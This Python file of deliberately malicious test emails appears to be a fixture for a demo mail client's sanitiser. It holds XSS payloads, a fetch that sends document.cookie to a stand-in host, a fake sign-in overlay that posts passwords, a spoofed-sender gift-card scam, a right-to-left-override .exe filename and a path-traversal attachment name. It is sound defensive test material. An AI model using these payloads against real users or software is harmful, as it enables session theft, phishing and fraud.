"""Letters that mean no good, all of them toothless: every host ends in .invalid or .example."""

from __future__ import annotations

from datetime import date

from demo.mail.letters import NEW, READ, File, Letter

_SVG = b"""<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 18 18">
<script>alert(1)</script><circle r="9" cx="9" cy="9"/></svg>
"""


def letters(today: date) -> list[Letter]:
    return [_scripts(), _overlay(), _spoofed(), _bidi_file(), *_junk()]


def _scripts() -> Letter:
    return Letter(1, "03:33", "Prize department <winner@lottery.invalid>", "You have won (keep JavaScript on)", """
        You have won.
        """, html="""
        <html><head><script>document.title = 'stolen'; fetch('https://evil.invalid/?c=' + document.cookie)</script>
        <meta http-equiv="refresh" content="0; url=https://evil.invalid/">
        <base href="https://evil.invalid/"><link rel="stylesheet" href="https://evil.invalid/all.css"></head>
        <body onload="alert('loaded')">
        <p>Dear winner, press <a href="javascript:alert(document.domain)">here</a> or
        <a href=" jAvAsCrIpT:alert(1)">here</a> or <a href="data:text/html,<script>alert(2)</script>">here</a>.</p>
        <img src="x" onerror="alert(3)"><svg onload="alert(4)"><script>alert(5)</script></svg>
        <math><mtext><style><img src=x onerror=alert(6)></style></mtext></math>
        <iframe src="https://evil.invalid/frame" srcdoc="<script>parent.alert(7)</script>"></iframe>
        <object data="https://evil.invalid/o.swf"></object><embed src="https://evil.invalid/e.swf">
        <p style="background:url(javascript:alert(8)); -moz-binding:url(https://evil.invalid/x.xml#x)">Congratulations.</p>
        <p>This paragraph is harmless and should be readable.</p>
        </body></html>
        """, flags=NEW)  # fmt: skip


def _overlay() -> Letter:
    return Letter(2, "01:15", "Account security <security@pennypost.example.invalid>", "Your session has ended", """
        Your session has ended. Please sign in again.
        """, html="""
        <style>#cover{position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647;background:#fff}
        body{display:none} a[href]{color:inherit}</style>
        <div id="cover" style="position:fixed;inset:0;z-index:99999;background:white">
        <h1>Your session has ended</h1><p>Please sign in again to go on.</p>
        <form action="https://evil.invalid/collect" method="post">
        <label>Address <input name="user" value="ana@pennypost.example"></label>
        <label>Password <input name="password" type="password" autofocus></label>
        <button formaction="https://evil.invalid/collect2">Sign in</button></form></div>
        <a href="https://evil.invalid/login">https://mail.pennypost.example/login</a>
        """, flags=READ)  # fmt: skip


def _spoofed() -> Letter:
    raw = b"""From: "Ben Okafor <ben@pennypost.example>" <x91@cheapmail.invalid>
Reply-To: collect@evil.invalid
To: ana@pennypost.example
Subject: Quick favour, are you at your desk?
Date: {date}
Message-ID: <favour@cheapmail.invalid>
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8

I am in a meeting and cannot talk. Please buy five gift cards and send me
the numbers. See https://pennypost.example@evil.invalid/ for the details.

Ben
"""
    return Letter(3, "09:09", raw=raw, flags=NEW)


def _bidi_file() -> Letter:
    # The file name holds a right-to-left mark, so that a careless program shows a document for ...fdp.exe.
    return Letter(6, "02:40", "Accounts <accounts@supplier.invalid>", "Unpaid \u202egnp.eciovni", """
        Please open the attached document at once.
        """, flags=READ, files=(
            File("invoice_\u202efdp.exe", "application/octet-stream", b"MZ these two letters are no program\n"),
            File("../../etc/passwd", "text/plain", b"no, thank you\n"),
            File("page.html", "text/html", b"<script>alert('attachment')</script><p>An attachment, not a page.</p>\n"),
            File("picture.svg", "image/svg+xml", _SVG)))  # fmt: skip


def _junk() -> list[Letter]:
    return [
        Letter(1, "02:02", "Dr. Prince <prince@royal.invalid>", "CONFIDENTIAL: 14.5 MILLION", """
            Dear friend, I write to you because you are honest. Send me your
            bank details and a photograph of your door.
            """, flags=NEW, folder="Junk"),
        Letter(2, "04:44", "Pills and more <deal@pharm.invalid>", "Lose 20 kg by Thursday", """
            Doctors do not want you to know about this root.
            """, html="""
            <font size="7" color="red">LOSE 20 KG BY THURSDAY</font>
            <marquee>Doctors do not want you to know</marquee>
            <img src="https://pharm.invalid/root.jpg" width="400"><img src="http://pharm.invalid/t.gif?ana" height="1">
            """, flags=NEW, folder="Junk"),
        Letter(4, "23:11", "Parcel <parcel@delivery.invalid>", "Your parcel waits for 1.99", """
            Pay 1.99 within the hour: http://delivery.invalid/pay?x=1
            """, flags=NEW, folder="Junk"),
        Letter(5, "12:00", "SEO wizard <rank@first.invalid>", "I looked at your website and cried", """
            You are on page nine. I can bring you to page one. Answer YES.
            """, flags=NEW, folder="Junk"),
    ]  # fmt: skip
